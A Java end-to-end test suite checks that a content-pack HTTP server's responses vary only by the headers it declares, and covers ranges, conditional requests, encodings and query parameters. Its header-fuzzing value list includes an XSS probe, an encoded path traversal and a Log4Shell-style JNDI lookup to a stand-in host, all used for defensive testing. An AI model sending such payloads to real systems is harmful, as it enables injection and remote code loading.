package org.contentpack.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.contentpack.e2e.Server.ARTICLE;
import static org.contentpack.e2e.Server.PACK;
import static org.contentpack.e2e.Server.get;
import static org.contentpack.e2e.Server.raw;
import static org.contentpack.e2e.Server.send;

import com.aayushatharva.brotli4j.Brotli4jLoader;
import com.aayushatharva.brotli4j.decoder.Decoder;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.TreeMap;
import java.util.zip.GZIPInputStream;
import org.contentpack.BadInput;
import org.contentpack.e2e.Server.Answer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What makes two answers from one address differ: what {@code Vary} names, and nothing else. */
class HttpVariantsE2E {

    private static final String EXACT = PACK + "/versions/1.1.0";

    private static final List<String> TARGETS =
            List.of(
                    "/",
                    "/api/packs",
                    PACK + "/versions",
                    EXACT,
                    EXACT + ARTICLE,
                    EXACT + ARTICLE + ".html",
                    EXACT + ARTICLE + "/sections/intro",
                    EXACT + "/assets/wall-calf-stretch.svg",
                    PACK + "/versions/1",
                    "/api/packs/unknown");

    /** Fields with which servers, proxies and frameworks were made to answer otherwise. */
    private static final List<String> KNOWN =
            List.of(
                    "X-Forwarded-Host",
                    "X-Forwarded-For",
                    "X-Forwarded-Proto",
                    "X-Forwarded-Port",
                    "X-Forwarded-Prefix",
                    "X-Forwarded-Scheme",
                    "X-Forwarded-Server",
                    "Forwarded",
                    "X-Host",
                    "X-Original-URL",
                    "X-Original-Host",
                    "X-Rewrite-URL",
                    "X-HTTP-Host-Override",
                    "X-HTTP-Method-Override",
                    "X-HTTP-Method",
                    "X-Method-Override",
                    "X-Request-Id",
                    "X-Real-IP",
                    "X-Client-IP",
                    "True-Client-IP",
                    "X-Requested-With",
                    "X-Debug",
                    "X-Accept-Language",
                    "Accept-Charset",
                    "Accept-Datetime",
                    "Accept-CH",
                    "Content-Type",
                    "Content-Language",
                    "Cookie",
                    "Origin",
                    "Referer",
                    "User-Agent",
                    "From",
                    "Via",
                    "Prefer",
                    "Range",
                    "If-Range",
                    "If-Match",
                    "If-Unmodified-Since",
                    "If-Modified-Since",
                    "Save-Data",
                    "Sec-Fetch-Mode",
                    "Sec-CH-UA",
                    "DNT",
                    "TE",
                    "Trailer",
                    "Cache-Control",
                    "Pragma",
                    "Max-Forwards",
                    "Proxy-Authorization",
                    "Idempotency-Key",
                    "Content-Pack-Signature",
                    "$WSSN",
                    "$WSSP",
                    "$WSIS",
                    "$WSSC",
                    "$WSRA",
                    "$WSPR",
                    "Surrogate-Capability",
                    "X-Wap-Profile",
                    "Content-Encoding",
                    "Content-Location",
                    "Access-Control-Request-Method",
                    "Access-Control-Request-Headers");

    private static final List<String> VALUES =
            List.of(
                    "evil.example",
                    "https://evil.example/",
                    "/admin",
                    "0",
                    "1",
                    "443",
                    "true",
                    "es",
                    "text/html",
                    "DELETE",
                    "gzip",
                    "no-cache",
                    "bytes=0-0",
                    "lang=es",
                    "Thu, 01 Jan 1970 00:00:00 GMT",
                    "\"a\"",
                    "*",
                    "<script>alert(1)</script>",
                    "..%2f..%2f",
                    "${jndi:ldap://evil.example/a}");

    /** Status, all header fields but those of this one answer, and the body. */
    private static List<Object> comparable(Answer answer) {
        Map<String, List<String>> headers = new TreeMap<>(answer.headers());
        headers.remove("date");
        headers.remove("x-request-id");
        return List.of(answer.status(), headers, answer.body());
    }

    @Test
    @BadInput("H12")
    void aFieldThatVaryDoesNotNameChangesNothing() {
        Random random = new Random(20_261_126);
        Map<String, List<Object>> plain = new TreeMap<>();
        TARGETS.forEach(target -> plain.put(target, comparable(raw("GET", target))));
        List<String> changed = new ArrayList<>();
        for (int i = 0; i < 200; i++) {
            String name =
                    i < KNOWN.size()
                            ? KNOWN.get(i)
                            : "X-" + Integer.toString(random.nextInt(1 << 30), 36);
            String value = VALUES.get(random.nextInt(VALUES.size()));
            String target = TARGETS.get(random.nextInt(TARGETS.size()));
            if (!comparable(raw("GET", target, name, value)).equals(plain.get(target))) {
                changed.add(name + ": " + value + " at " + target);
            }
        }

        assertThat(changed).isEmpty();
    }

    /** The container looks for a session of its own before any code of ours, and fails. */
    @Test
    @BadInput("H12")
    void aCookieThatTheContainerCannotReadIsItsFault() {
        Answer answer = get(EXACT, "Cookie", "$Version=9;a");

        assertThat(answer.status()).isEqualTo(500);
        assertThat(answer.bytes()).isEmpty();
        assertThat(answer.header("Cache-Control")).isEmpty();
        assertThat(get(EXACT, "Cookie", "a=b; $Version=1; c;; =; \"").status()).isEqualTo(200);
    }

    @ParameterizedTest
    @BadInput("H6")
    @CsvSource({
        "bytes=0-0, 206, 0, 1",
        "bytes=10-19, 206, 10, 20",
        "bytes=-5, 206, -5, 0",
        "bytes=99999999999-, 416, 0, 0",
        "bytes=-0, 416, 0, 0",
        "'bytes=0-99,50-150', 200, 0, 0",
        "bytes=5-1, 200, 0, 0",
        "lines=1-2, 200, 0, 0",
        "bytes=, 200, 0, 0",
        "nonsense, 200, 0, 0"
    })
    void aRangeOfStoredBytesIsAnsweredByTheBook(String range, int status, int from, int to) {
        for (String target :
                List.of(EXACT + "/archive", EXACT + "/assets/wall-calf-stretch.svg", blob())) {
            Answer whole = get(target);
            int length = whole.bytes().length;
            Answer answer =
                    get(target, "Range", range, "If-Range", whole.header("ETag").orElse(""));

            assertThat(whole.header("Accept-Ranges")).contains("bytes");
            assertThat(answer.status()).isEqualTo(status);
            if (status == 206) {
                int first = from < 0 ? length + from : from;
                int end = to == 0 ? length : to;
                assertThat(answer.bytes()).isEqualTo(Arrays.copyOfRange(whole.bytes(), first, end));
                assertThat(answer.header("Content-Range"))
                        .contains("bytes " + first + "-" + (end - 1) + "/" + length);
                assertThat(answer.header("ETag")).isEqualTo(whole.header("ETag"));
                assertThat(answer.header("Repr-Digest")).isEqualTo(whole.header("Repr-Digest"));
                assertThat(answer.header("Content-Digest")).isEmpty();
            } else if (status == 416) {
                assertThat(answer.header("Content-Range")).contains("bytes */" + length);
                assertThat(answer.body()).contains("urn:contentpack:problem:range-not-satisfiable");
            } else {
                assertThat(answer.bytes()).isEqualTo(whole.bytes());
            }
        }
    }

    @Test
    void aHeadHasNoRanges() {
        for (String target :
                List.of(EXACT + "/archive", EXACT + "/assets/wall-calf-stretch.svg", blob())) {
            Answer whole = send("HEAD", target);
            Answer answer = send("HEAD", target, "Range", "bytes=0-1");

            assertThat(answer.status()).isEqualTo(200);
            assertThat(answer.header("Content-Range")).isEmpty();
            assertThat(answer.header("Content-Length")).isEqualTo(whole.header("Content-Length"));
        }
    }

    @Test
    void whatIsNotAsTheClientExpectsIsNotSent() {
        for (String target :
                List.of(
                        EXACT + ARTICLE,
                        EXACT + ARTICLE + ".html",
                        EXACT + "/archive",
                        EXACT + "/exports/markdown",
                        blob())) {
            String tag = get(target).header("ETag").orElseThrow();
            for (String match : List.of(tag, "*", "\"x\", " + tag)) {
                assertThat(get(target, "If-Match", match).status()).isEqualTo(200);
                assertThat(get(target, "If-Match", match, "If-None-Match", tag).status())
                        .isEqualTo(304);
            }
            for (String other : List.of("\"x\"", "W/" + tag)) {
                Answer answer = get(target, "If-Match", other, "If-None-Match", tag);
                assertThat(answer.kind()).isEqualTo("412 application/problem+json");
                assertThat(answer.header("Cache-Control")).contains("no-store");
                assertThat(send("HEAD", target, "If-Match", other).status()).isEqualTo(412);
            }
        }
    }

    private static String blob() {
        return "/api/blobs/sha256/"
                + get(EXACT + "/assets/wall-calf-stretch.svg")
                        .header("ETag")
                        .orElseThrow()
                        .replace("\"", "");
    }

    @Test
    @BadInput("H6")
    void aRangeOfOtherBytesIsTheWhole() {
        Answer whole = get(EXACT + "/archive");
        Answer answer = get(EXACT + "/archive", "Range", "bytes=0-0", "If-Range", "\"other\"");
        Answer page = get(EXACT + ARTICLE + ".html?lang=en", "Range", "bytes=0-0");

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.bytes()).isEqualTo(whole.bytes());
        assertThat(page.status()).isEqualTo(200);
        assertThat(page.bytes()).isEqualTo(get(EXACT + ARTICLE + ".html?lang=en").bytes());
    }

    @Test
    @BadInput("H6")
    void aThousandRangesAreAnsweredWithTheWhole() {
        Answer answer = get(EXACT + "/archive", "Range", "bytes=0-0" + ",0-0".repeat(1_000));

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.bytes()).isEqualTo(get(EXACT + "/archive").bytes());
    }

    @ParameterizedTest
    @BadInput("H7")
    @CsvSource({
        "gzip, gzip",
        "'br;q=1, gzip;q=0.5', br",
        "*, br",
        "identity;q=0, ",
        "*;q=0, ",
        "zstd, "
    })
    void everyCodingHasATagOfItsOwn(String accepted, String coding) throws Exception {
        Answer plain = get(EXACT + ARTICLE);
        Answer answer = get(EXACT + ARTICLE, "Accept-Encoding", accepted);
        String tag = answer.header("ETag").orElseThrow();

        assertThat(answer.header("Content-Encoding")).isEqualTo(Optional.ofNullable(coding));
        assertThat(unpacked(answer.bytes(), coding)).isEqualTo(plain.bytes());
        assertThat(tag.equals(plain.header("ETag").orElseThrow())).isEqualTo(coding == null);
        assertThat(tag)
                .isEqualTo(
                        "\""
                                + HexFormat.of()
                                        .formatHex(
                                                MessageDigest.getInstance("SHA-256")
                                                        .digest(answer.bytes()))
                                + "\"");
        assertThat(answer.header("Content-Digest")).isEqualTo(answer.header("Repr-Digest"));
        assertThat(answer.header("Vary").orElse("")).contains("Accept-Encoding");
        Answer again = get(EXACT + ARTICLE, "Accept-Encoding", accepted, "If-None-Match", tag);
        assertThat(again.status()).isEqualTo(304);
        assertThat(again.header("ETag")).contains(tag);
        assertThat(again.header("Content-Encoding")).isEmpty();
        String other = plain.header("ETag").orElseThrow();
        assertThat(
                        get(EXACT + ARTICLE, "Accept-Encoding", accepted, "If-None-Match", other)
                                .status())
                .isEqualTo(coding == null ? 304 : 200);
    }

    private static byte[] unpacked(byte[] bytes, String coding) throws IOException {
        if (coding == null) {
            return bytes;
        }
        Brotli4jLoader.ensureAvailability();
        return coding.equals("gzip")
                ? new GZIPInputStream(new ByteArrayInputStream(bytes)).readAllBytes()
                : Decoder.decompress(bytes).getDecompressedData();
    }

    @ParameterizedTest
    @BadInput("H11")
    @ValueSource(
            strings = {
                "utm_source=x",
                "callback=alert",
                "format=html&format=json",
                "x",
                "=",
                "&&",
                "_method=DELETE",
                "Lang=es",
                "lang%5B%5D=es",
                "version=1.0.0"
            })
    void aParameterThatNobodyKnowsChangesNothing(String query) {
        Answer plain = get(EXACT + ARTICLE);
        Answer answer = get(EXACT + ARTICLE + "?" + query);

        assertThat(answer.kind()).isEqualTo("200 application/json");
        assertThat(answer.bytes()).isEqualTo(plain.bytes());
        assertThat(answer.header("ETag")).isEqualTo(plain.header("ETag"));
    }

    @ParameterizedTest
    @BadInput("H11")
    @ValueSource(strings = {"lang=en&lang=es", "lang=en&lang=en", "l%61ng=en&lang=es", "lang="})
    void aKnownParameterThatSaysTwoThingsIsMalformed(String query) {
        assertThat(get(EXACT + ARTICLE + "?" + query).kind())
                .isEqualTo("400 application/problem+json");
    }

    @ParameterizedTest
    @CsvSource({
        "/api/packs, ''",
        "/style.css, ''",
        "/api/packs/leg-cramps-at-night/versions/1.1.0/archive, ''",
        "/api/packs/leg-cramps-at-night/versions/1, ''",
        "/api/packs/unknown, en",
        "/api/packs/leg-cramps-at-night/articles/what-causes-leg-cramps-at-night?lang=es, es",
        "/, en"
    })
    void anAnswerIsInTheLanguageThatItSays(String target, String language) {
        assertThat(get(target).header("Content-Language")).contains(language);
    }
}
